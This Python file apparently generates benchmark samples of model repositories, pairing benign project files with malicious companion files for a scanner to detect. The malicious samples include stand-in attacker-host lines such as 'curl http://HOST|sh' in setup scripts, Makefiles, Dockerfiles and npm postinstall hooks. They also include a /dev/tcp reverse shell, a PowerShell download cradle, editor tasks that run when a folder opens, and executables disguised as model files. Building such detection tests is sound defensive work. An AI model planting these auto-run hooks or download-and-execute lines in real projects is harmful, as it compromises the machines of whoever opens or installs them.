"""Files beside models that run by themselves: start files, libraries, scripts."""

from __future__ import annotations

import marshal
import random
from collections.abc import Iterator

from bench.corpus.repository import base
from bench.corpus.unit import COMMAND, HOST, Expect, Family, Unit
from bench.corpus.writers import binaries, media

SIDE = Family("companions", "the interpreter, shell or editor that opens the folder")


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _sides(rng)


def _sides(rng: random.Random) -> Iterator[Unit]:
    def bad(
        technique: str,
        variant: str,
        files: dict[str, object],
        expect: Expect = "malicious",
        payload: str = "runs by itself",
    ) -> Unit:
        return SIDE.bad(technique, variant, {**base(rng), **files}, payload=payload, expect=expect)

    system = f"import os\nos.system('{COMMAND}')\n"
    setup = "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass I(install):\n    def run(self):\n        import os\n        os.system('true')\n        install.run(self)\n\n\nsetup(name='m', cmdclass={'install': I})\n"
    yield bad("setup-script", "cmdclass", {"setup.py": setup})
    yield bad(
        "setup-script",
        "top-level",
        {"setup.py": system + "from setuptools import setup\nsetup(name='m')\n"},
    )
    yield bad(
        "setup-script",
        "download",
        {
            "setup.py": f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/s').read())\nfrom setuptools import setup\nsetup()\n"
        },
    )
    yield bad("path-file", "import-line", {"model.pth": f"import os; os.system('{COMMAND}')\n"})
    yield bad(
        "path-file", "exec-line", {"zz.pth": "import base64;exec(base64.b64decode('cGFzcw=='))\n"}
    )
    yield bad("start-file", "sitecustomize", {"sitecustomize.py": system})
    yield bad("start-file", "usercustomize", {"usercustomize.py": system})
    yield bad("start-file", "conftest", {"conftest.py": system})
    yield bad("start-file", "ipython-startup", {".ipython/profile_default/startup/00.py": system})
    yield bad(
        "start-file",
        "shadow-module",
        {"numpy.py": system, "random.py": system},
        payload="imported in a library's place",
    )
    yield bad("start-file", "envrc", {".envrc": f"curl http://{HOST}|sh\n"})
    task = {
        "version": "2.0.0",
        "tasks": [
            {
                "label": "x",
                "type": "shell",
                "command": f"curl http://{HOST}|sh",
                "runOptions": {"runOn": "folderOpen"},
            }
        ],
    }
    yield bad("editor-task", "vscode", {".vscode/tasks.json": task})
    yield bad("native-library", "elf", {"libtokenizer.so": binaries.elf(b"system", b"connect")})
    yield bad("native-library", "pe", {"tokenizers.dll": binaries.pe(b"WinExec")})
    yield bad(
        "native-library", "pyd", {"_kernels.cp311-win_amd64.pyd": binaries.pe(b"PyInit__kernels")}
    )
    yield bad("native-library", "macho", {"libops.dylib": binaries.macho()})
    yield bad("executable", "pe", {"install.exe": binaries.pe(b"x", library=False)})
    yield bad("executable", "elf-no-extension", {"llama-run": binaries.elf(b"x", shared=False)})
    yield bad(
        "executable", "elf-named-bin", {"pytorch_model.bin": binaries.elf(b"x", shared=False)}
    )
    yield bad("executable", "class", {"Load.class": binaries.java_class()})
    yield bad("executable", "pe-named-json", {"vocab.txt": binaries.pe(b"x", library=False)})
    code = b"\xa7\x0d\x0d\n" + bytes(12) + marshal.dumps(compile(system, "x", "exec"))
    yield bad("compiled-python", "pyc", {"__pycache__/modeling_tiny.cpython-311.pyc": code})
    yield bad(
        "script",
        "curl-pipe",
        {"install.sh": f"#!/bin/sh\ncurl -fsSL http://{HOST}/i | sudo bash\n"},
    )
    yield bad(
        "script",
        "powershell",
        {"setup.ps1": f"IEX (New-Object Net.WebClient).DownloadString('http://{HOST}/a')\n"},
    )
    yield bad(
        "script",
        "batch",
        {
            "run.bat": f"@echo off\r\npowershell -enc SQBFAFgA\r\ncertutil -urlcache -f http://{HOST}/a a.exe & a.exe\r\n"
        },
    )
    yield bad("script", "reverse-shell", {"start.sh": f"bash -i >& /dev/tcp/{HOST}/4444 0>&1\n"})
    yield bad(
        "script", "base64", {"prepare.sh": "echo dG91Y2ggY29ycHVzLW1hcmtlcgo= | base64 -d | sh\n"}
    )
    yield bad("script", "makefile", {"Makefile": f"all:\n\tcurl -s http://{HOST}/x | sh\n"})
    yield bad(
        "container",
        "dockerfile",
        {"Dockerfile": f"FROM python:3.11\nRUN curl http://{HOST}/x | sh\n"},
    )
    yield bad(
        "desktop",
        "launcher",
        {
            "model.desktop": f"[Desktop Entry]\nType=Application\nName=Model\nExec=sh -c 'curl http://{HOST}|sh'\n"
        },
    )
    yield bad(
        "markup",
        "svg-script",
        {
            "logo.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('http://{HOST}')\"><script>alert(1)</script></svg>"
        },
        "suspicious",
    )
    yield bad(
        "markup", "html", {"card.html": f"<script src='http://{HOST}/x.js'></script>"}, "suspicious"
    )
    yield bad(
        "node-package",
        "postinstall",
        {"package.json": {"name": "m", "scripts": {"postinstall": f"curl http://{HOST}|sh"}}},
    )

    yield bad("compiled-python", "sourceless", {"modeling_tiny.pyc": code})
    compose = f"services:\n  m:\n    image: python\n    privileged: true\n    volumes: ['/:/host']\n    command: sh -c 'curl http://{HOST}|sh'\n"
    yield bad("container", "compose", {"docker-compose.yml": compose})
    devcontainer = {"image": "python:3.11", "postCreateCommand": f"curl http://{HOST}/x | sh"}
    yield bad("editor-task", "devcontainer", {".devcontainer/devcontainer.json": devcontainer})
    pinned = {
        "python.defaultInterpreterPath": "${workspaceFolder}/.bin/python",
        "terminal.integrated.env.linux": {"LD_PRELOAD": "./x.so"},
    }
    yield bad(
        "editor-task",
        "settings",
        {".vscode/settings.json": pinned, ".bin/python": f"#!/bin/sh\n{COMMAND}\n"},
    )
    yield bad(
        "node-package",
        "preinstall",
        {
            "package.json": {
                "name": "m",
                "scripts": {"preinstall": "node -e \"require('child_process').exec('true')\""},
            }
        },
    )
    link = (
        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"
        + bytes(56)
        + "powershell -enc SQBFAFgA".encode("utf-16-le")
    )
    yield bad("desktop", "shortcut", {"model.lnk": link})
    yield bad(
        "desktop",
        "url-file",
        {"model.url": f"[InternetShortcut]\r\nURL=file://{HOST}/share/x.exe\r\n"},
    )

    def good(variant: str, files: dict[str, object]) -> Unit:
        return SIDE.good("folder", variant, {**base(rng), **files})

    yield good(
        "setup",
        {
            "setup.py": "from setuptools import find_packages, setup\n\nsetup(name='m', version='1.0', packages=find_packages(), install_requires=['torch'])\n"
        },
    )
    yield good(
        "scripts",
        {
            "train.sh": '#!/bin/bash\nset -euo pipefail\nexport CUDA_VISIBLE_DEVICES=0\ntorchrun --nproc_per_node 8 train.py "$@"\n'
        },
    )
    yield good(
        "dockerfile",
        {
            "Dockerfile": 'FROM pytorch/pytorch:2.3.0\nWORKDIR /app\nCOPY . .\nRUN pip install --no-cache-dir -r requirements.txt\nCMD ["python", "serve.py"]\n'
        },
    )
    yield good("makefile", {"Makefile": "train:\n\tpython train.py\ntest:\n\tpytest\n"})
    yield good(
        "tests",
        {
            "tests/test_model.py": "import torch\n\n\ndef test_shape():\n    assert torch.zeros(2).shape == (2,)\n",
            "conftest.py": "import pytest\n\n\n@pytest.fixture\ndef model():\n    return None\n",
        },
    )
    yield good(
        "media",
        {
            "logo.png": media.png(rng),
            "sample.wav": media.wav(rng),
            "photo.jpg": media.jpeg(rng),
            "paper.pdf": media.pdf("A paper"),
        },
    )
    yield good("data", {"data/train.csv": media.csv(rng), "data/test.jsonl": media.jsonl(rng)})
    yield good("svg", {"logo.svg": "<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>"})
    yield good("ignore-files", {".gitignore": "*.pyc\nwandb/\n", ".dockerignore": ".git\n"})
    yield good(
        "editor",
        {
            ".vscode/settings.json": {"python.linting.enabled": True},
            ".editorconfig": "root = true\n",
        },
    )
    yield good(
        "workflow",
        {
            ".github/workflows/ci.yml": "name: ci\non: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: pytest\n"
        },
    )
    yield good(
        "app",
        {
            "app.py": "import gradio as gr\nfrom transformers import pipeline\n\npipe = pipeline('text-classification')\ngr.Interface(lambda t: pipe(t), 'text', 'json').launch()\n"
        },
    )
    yield good(
        "papers",
        {
            "CITATION.cff": "cff-version: 1.2.0\ntitle: Tiny\nauthors:\n- name: A\n",
            "CHANGELOG.md": "# 1.0\n- first\n",
            "NOTICE": "Copyright\n",
        },
    )
    yield good(
        "shell-docs",
        {
            "docs/install.md": "Run `curl -LsSf https://astral.sh/uv/install.sh | sh` and then `uv sync`.\n"
        },
    )
    yield good(
        "package-json",
        {
            "package.json": {
                "name": "demo",
                "version": "1.0.0",
                "scripts": {"build": "vite build", "test": "vitest"},
                "dependencies": {"@huggingface/transformers": "^3.0.0"},
            }
        },
    )
